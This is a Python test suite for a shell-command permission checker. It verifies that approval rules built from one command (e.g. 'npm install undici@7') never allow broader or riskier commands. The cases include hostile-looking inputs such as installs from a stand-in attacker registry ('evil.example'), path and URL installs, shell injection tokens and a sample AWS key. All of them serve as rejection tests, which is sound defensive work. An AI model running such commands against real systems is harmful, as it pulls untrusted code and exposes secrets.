"""A rule never allows a command that does something more than what was shown."""

from __future__ import annotations

from typing import Final

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from casework.code.shell import Simple, read_command
from casework.domain.actions import Grants
from casework.domain.rules import CommandShape, RuleShape, rule_text
from casework.permissions.commands import fits, shapes_of
from tests.permissions.test_shell import HOSTILE

HOST: Final = "packages.example:443"
REACH: Final = Grants(hosts=(HOST,))
EXACT: Final = CommandShape(words=("npm", "install", "undici@7"), hosts=(HOST,))
WIDE: Final = CommandShape(words=("npm", "install"), names=True, hosts=(HOST,))


def offered(command: str, grants: Grants = REACH) -> list[str]:
    return [rule_text(shape) for shape in shapes_of(command, grants)[0]]


def test_the_narrowest_rule_is_offered_first() -> None:
    assert offered("npm install undici@7") == [
        f"`npm install undici@7`, reaching {HOST}",
        f"`npm install *`, reaching {HOST}",
    ]
    assert offered("uv pip install 'requests>=2'") == [
        f"`uv pip install 'requests>=2'`, reaching {HOST}",
        f"`uv pip install *`, reaching {HOST}",
    ]


@pytest.mark.parametrize(
    "command",
    [
        "npm install --global x",
        "npm install ./x",
        "npm install owner/repository",
        "pip install -r requirements.txt",
        "pip install requirements.txt",
        "pip install x.whl",
        "pip install git+ssh://x",
        "pip install .",
        "npm ci",
        "curl packages.example:443/x",
    ],
)
def test_of_what_names_no_packages_only_the_exact_rule_is_offered(command: str) -> None:
    assert offered(command) == [f"`{command}`, reaching {HOST}"]


@pytest.mark.parametrize(
    "command", [*HOSTILE, "yarn build", "npm x", "pip config set a b", "npm --prefix /x install y"]
)
def test_of_what_may_do_more_no_rule_is_offered_and_it_is_said_why(command: str) -> None:
    shapes, why = shapes_of(command, REACH)
    assert shapes == ()
    assert why.startswith("No rule can be made of it, because ")


def test_a_command_with_a_secret_makes_no_rule() -> None:
    assert offered("curl AKIAIOSFODNN7EXAMPLE") == []
    assert offered("curl AKIAIOSF''ODNN7EXAMPLE") == []


@pytest.mark.parametrize("command", HOSTILE, ids=repr)
@pytest.mark.parametrize("shape", [EXACT, WIDE])
def test_no_rule_fits_what_may_do_more(shape: CommandShape, command: str) -> None:
    assert not fits(shape, command, REACH)
    assert not fits(shape, command.replace("npm install x", "npm install undici@7"), REACH)


@pytest.mark.parametrize(
    "command",
    [
        "npm install undici@7 x",
        "npm install",
        "npm install undici@77",
        "npm  installx undici@7",
        "npm install undici@7 --global",
        "Npm install undici@7",
        "npm 'install undici@7'",
    ],
)
def test_the_exact_rule_fits_only_the_exact_words(command: str) -> None:
    assert fits(EXACT, "npm 'install'  undici@7", REACH)
    assert not fits(EXACT, command, REACH)


@pytest.mark.parametrize(
    ("fit", "command"),
    [
        (True, "npm install"),
        (True, "npm install a b@1 @types/node"),
        (False, "npm install --registry=evil.example"),
        (False, "npm install -g x"),
        (False, "npm install ../x"),
        (False, "npm install /x"),
        (False, "npm install owner/x"),
        (False, "npm install http://evil.example/x"),
        (False, "npm install evil.example:80"),
        (False, "npm install x.tgz"),
        (False, "npm install ''"),
        (False, "npm install 'a b'"),
        (False, "npm i x"),
        (False, "npm uninstall x"),
    ],
)
def test_a_star_stands_for_names_of_packages_only(fit: bool, command: str) -> None:
    assert fits(WIDE, command, REACH) is fit


def test_a_rule_opens_no_other_host_port_or_place() -> None:
    for grants in (
        Grants(hosts=("evil.example:443",)),
        Grants(hosts=("packages.example:80",)),
        Grants(hosts=(HOST, "evil.example:443")),
        Grants(hosts=(HOST,), writable=("/srv/x",)),
        Grants(hosts=(HOST,), readable=("/srv/x",)),
    ):
        assert not fits(EXACT, "npm install undici@7", grants)
    assert fits(EXACT, "npm install undici@7", Grants())


_WORDS: Final = st.sampled_from(
    ["npm", "pip", "install", "add", "x", "undici@7", "-g", "--x=y", "../x", "/x", "a b", "'", "$x", ";",
     "&&", "sh", "x.whl",
     "@a/b", "a/b", "u\u0440", "", "~", "=x", "*", "http://e/x", "run", "go", "get", "mod", "download"]
)  # fmt: skip
_LINES: Final = st.lists(_WORDS, max_size=6).map(" ".join)


@settings(max_examples=500, deadline=None)
@given(shown=_LINES, later=_LINES)
@example(shown="npm install x", later="npm install x -g")
@example(shown="go mod download", later="go mod download x")
def test_a_rule_made_of_one_command_allows_another_only_as_its_text_says(shown: str, later: str) -> None:
    """Whatever was shown and whatever comes later: it is the very words, or more names of packages behind a star."""
    for shape in shapes_of(shown, REACH)[0]:
        assert fits(_command(shape), shown, REACH)
        if not fits(_command(shape), later, REACH):
            continue
        read = read_command(later)
        assert isinstance(read, Simple)
        words = _command(shape).words
        assert read.words[: len(words)] == words
        rest = read.words[len(words) :]
        assert not rest or "*" in rule_text(shape)
        assert all(word[0].isalnum() or word[0] == "@" for word in rest)
        assert not any(mark in word for word in rest for mark in (" ", ":", "..", "//", "=x", "$", "'", ";", ".whl"))


def _command(shape: RuleShape) -> CommandShape:
    assert isinstance(shape, CommandShape)
    return shape
